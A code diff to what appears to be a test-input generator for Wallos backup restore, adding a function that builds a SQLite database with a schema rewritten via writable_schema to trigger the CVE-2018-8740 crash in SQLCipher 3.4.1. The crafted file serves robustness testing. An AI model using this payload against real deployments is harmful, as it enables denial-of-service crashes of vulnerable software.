@@ -68,6 +68,23 @@ def database_bytes():
             return file.read()
 
 
+def crafted_database_bytes():
+    """Wallos's database with one table's schema rewritten as `CREATE TABLE ... AS SELECT`,
+    which crashes the SQLite 3.15.2 inside SQLCipher 3.4.1 (CVE-2018-8740)."""
+    with tempfile.TemporaryDirectory() as directory:
+        path = os.path.join(directory, "wallos.db")
+        connection = sqlite3.connect(path)
+        connection.executescript(SCHEMA)
+        connection.execute("CREATE TABLE crafted (a)")
+        connection.commit()
+        connection.execute("PRAGMA writable_schema = ON")
+        connection.execute("UPDATE sqlite_master SET sql = 'CREATE TABLE crafted AS SELECT 1' WHERE name = 'crafted'")
+        connection.commit()
+        connection.close()
+        with open(path, "rb") as file:
+            return file.read()
+
+
 def backup_zip(extra=None):
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
@@ -130,6 +147,8 @@ def main():
         data = lying_zip()
     elif kind == "nodb":
         data = no_database_zip()
+    elif kind == "crafted":
+        data = crafted_database_bytes()
     elif kind == "truncated":
         whole = backup_zip()
         data = whole[: len(whole) // 2]
